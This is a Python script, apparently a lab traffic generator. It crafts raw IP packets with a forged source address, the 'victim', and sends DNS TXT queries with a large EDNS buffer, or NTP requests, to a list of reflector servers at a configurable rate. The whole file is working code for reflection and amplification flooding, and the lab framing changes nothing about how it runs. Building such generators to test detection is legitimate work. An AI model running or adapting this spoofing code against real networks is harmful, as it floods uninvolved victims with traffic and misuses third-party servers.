"""Questions with another's address as their source, for the lab's reflections; reports each as a connection.

Python, since Node has no raw sockets. Its one argument is JSON: {"kind": "dns" | "ntp", "victim", "reflectors", "port",
"count", "perSecond", "seed"}.
"""
import json
import random
import socket
import struct
import sys
import time

plan = json.loads(sys.argv[1])
rng = random.Random(plan["seed"])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
ports = [rng.randrange(20000, 60000) for _ in range(rng.choice([1, 8, 200]))]
for _ in range(plan["count"]):
    to, source = rng.choice(plan["reflectors"]), rng.choice(ports)
    if plan["kind"] == "dns":
        data = struct.pack("!HHHHHH", rng.randrange(65536), 0x0100, 1, 0, 0, 1)
        data += b"\x03aaa\x01x\x03lab\x07example\0\0\x10\0\x01" + b"\0\0\x29\x10\0\0\0\0\0\0\0"
    else:
        data = b"\x1b" + b"\0" * 47
    udp = struct.pack("!HHHH", source, plan["port"], 8 + len(data), 0) + data
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), rng.randrange(65536), 0, 64, 17, 0, socket.inet_aton(plan["victim"]), socket.inet_aton(to))
    raw.sendto(head + udp, (to, 0))
    print(json.dumps({"proto": 17, "src_port": source, "dst": to, "dst_port": plan["port"]}))
    time.sleep(rng.uniform(0.5, 1.5) / plan["perSecond"])
